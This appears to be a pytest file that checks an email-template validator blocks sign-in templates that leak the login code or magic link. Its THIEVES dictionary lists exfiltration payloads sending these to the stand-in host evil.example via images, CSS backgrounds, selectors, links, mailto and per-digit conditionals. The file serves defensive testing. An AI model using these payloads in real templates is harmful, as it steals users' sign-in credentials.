"""A mail template as a thief: what signs its reader in must leave by no picture, style or link of the template's."""

import pytest

from gatepass.templates.faults import TemplateFault
from gatepass.templates.model import MAIL_KINDS, Draft, Format
from gatepass.templates.rules import judged, made_of
from support.managing import managing
from support.spine import Spine

pytestmark = pytest.mark.anyio
SIGN_IN = MAIL_KINDS["sign_in"]
EVIL = "https://evil.example"
THIEVES = {
    "picture": f'<img src="{EVIL}/{{{{ code }}}}.png">',
    "half": f'<img src="{EVIL}/{{{{ code | slice: 0, 3 }}}}.png"><img src="{EVIL}/{{{{ code | slice: 3, 3 }}}}.png">',
    "link-in-picture": f'<img src="{EVIL}/?{{{{ link | url_encode }}}}">',
    "background": f"<p style=\"background:url('{EVIL}/{{{{ code }}}}')\">x</p>",
    "attribute": f'<table background="{EVIL}/{{{{ code }}}}"><tr><td>x</td></tr></table>',
    "unknown-attribute": f'<img dynsrc="{EVIL}/{{{{ code }}}}" lowsrc="//evil.example/{{{{ code }}}}">',
    "followed": f'<a href="{EVIL}/?{{{{ code }}}}">x</a>',
    "mailto": '<a href="mailto:eve@evil.example?body={{ code }}">x</a>',
    "wrapped": f'<a href="{EVIL}/?to={{{{ link }}}}">x</a>',
    "words": f"<p>{EVIL}/{{{{ code }}}}</p>",
    "condition": f'{{% if code == "482917" %}}<b>x</b>{{% else %}}<img src="{EVIL}/a.png">{{% endif %}}',
    "digit": f'{{% assign d = code | slice: 0 %}}{{% if d == "7" %}}<img src="{EVIL}/7.png">{{% endif %}}',
    "alias": f'<img src="{EVIL}/{{{{ OTP }}}}.png">',
    "stylesheet": f'<style>.c4{{background:url({EVIL}/4)}}</style><i class="c{{{{ code | slice: 0 }}}}">x</i>',
    "selector": f'<style>[title^="48"]{{background:url({EVIL}/48)}}</style><i title="{{{{ code }}}}">x</i>',
    "for-one-program": f'<!--[if mso]><img src="{EVIL}/{{{{ code }}}}.png"><![endif]-->',
}


def mail_with(more: str, text: str = "") -> Draft:
    return Draft(Format.HTML, "Sign in", f'<p><a href="{{{{ link }}}}">Sign in</a> {{{{ code }}}}</p>{more}', text)


@pytest.mark.parametrize("more", THIEVES.values(), ids=THIEVES)
def test_no_template_sends_what_opens_something_to_a_stranger(more: str) -> None:
    """Judged when it is saved and again at each mail, of which the template may treat some otherwise."""
    draft = mail_with(more)
    values = {**SIGN_IN.full_samples, "code": "713 902"}
    is_refused = bool(judged(draft, SIGN_IN).faults)
    try:
        made_of(draft, SIGN_IN, values)
    except TemplateFault:
        is_refused = True
    assert is_refused
    if "d ==" not in more:
        assert judged(draft, SIGN_IN).faults


def test_nor_by_its_plain_text_or_its_subject() -> None:
    assert judged(mail_with("", f"{{{{ link }}}} {EVIL}/{{{{ code }}}}"), SIGN_IN).faults
    stolen = Draft(Format.HTML, f"{EVIL}/{{{{ code }}}}", "<p>{{ link }}</p>")
    assert judged(stolen, SIGN_IN).faults


@pytest.mark.parametrize(
    "more",
    [
        '<img src="https://cdn.example.com/logo.png">',
        '<a href="{{ link }}&amp;utm_source=mail">x</a>',
        '<p style="background:url(https://cdn.example.com/a.png)">{{ link }}</p>',
        '<img src="https://cdn.example.com/{{ app_name | url_encode }}.png">',
        '<img alt="{{ code }}" src="https://cdn.example.com/a.png">',
    ],
)
def test_a_template_that_steals_nothing_is_as_good_as_before(more: str) -> None:
    assert judged(mail_with(more), SIGN_IN).faults == ()


async def test_an_administrator_can_not_save_one(spine: Spine) -> None:
    async with managing(spine, "sys_admin") as door:
        body = {"subject": "Hello", "source": mail_with(THIEVES["picture"]).source, "format": "html"}
        refused = await door.put("/api/v1/templates/sign_in", json=body)
        assert refused.status_code == 400, refused.text
        assert "code or the link" in refused.text
